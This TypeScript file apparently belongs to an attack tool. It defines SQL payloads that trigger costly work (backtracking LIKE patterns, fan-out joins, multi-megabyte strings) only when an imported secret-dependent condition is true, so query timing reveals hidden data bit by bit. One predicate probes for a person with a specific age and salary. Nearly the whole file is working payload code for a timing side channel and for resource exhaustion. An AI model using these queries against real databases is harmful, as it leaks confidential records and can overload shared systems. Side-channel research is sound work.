import { BIT } from './attack.ts';

/** A 23: cheap unless the target has the secret. */

const LONG = `concat(${Array(6).fill("rpad(note, 1000, 'a')").join(', ')})`;
const HUNDRED = (name: string): string =>
  `(VALUES ${Array.from({ length: 100 }, (_, i) => `(${i})`).join(', ')}) ${name}(n)`;
const OF_P = '(p.age = 99 AND p.salary > 8000000)';

/** Third, where it stands: what the control runs, less work of the same kind, because an engine cannot be stopped within one call. */
export const WORK: readonly (readonly [name: string, sql: string, control?: string])[] = [
  [
    'a pattern that backtracks',
    `SELECT count(*) FROM p WHERE CASE WHEN ${BIT} THEN ${LONG} LIKE '%a%a%a%a%_b' ELSE true END`,
    `SELECT count(*) FROM p WHERE CASE WHEN ${BIT} THEN rpad(note, 900, 'a') LIKE '%a%a%_b' ELSE true END`,
  ],
  [
    'the same in any case',
    `SELECT count(*) FROM p WHERE CASE WHEN ${BIT} THEN ${LONG} ILIKE '%a%a%a%a%_b' ELSE true END`,
    `SELECT count(*) FROM p WHERE CASE WHEN ${BIT} THEN rpad(note, 900, 'a') ILIKE '%a%a%_b' ELSE true END`,
  ],
  [
    'a join that fans out for one',
    `SELECT count(*) FROM p ${['a', 'b', 'c', 'd'].map((name) => `JOIN ${HUNDRED(name)} ON (${BIT}) OR ${name}.n = 0`).join(' ')}`,
  ],
  [
    'a self join that fans out for one',
    `SELECT count(*) FROM p JOIN p q ON p.id = q.id OR ${OF_P} ${['a', 'b', 'c'].map((name) => `JOIN ${HUNDRED(name)} ON ${OF_P} OR ${name}.n = 0`).join(' ')}`,
  ],
  [
    'a text of many megabytes',
    `SELECT count(*) FROM p WHERE CASE WHEN ${BIT} THEN length(repeat(note, 20000000)) > 0 ELSE true END`,
  ],
];
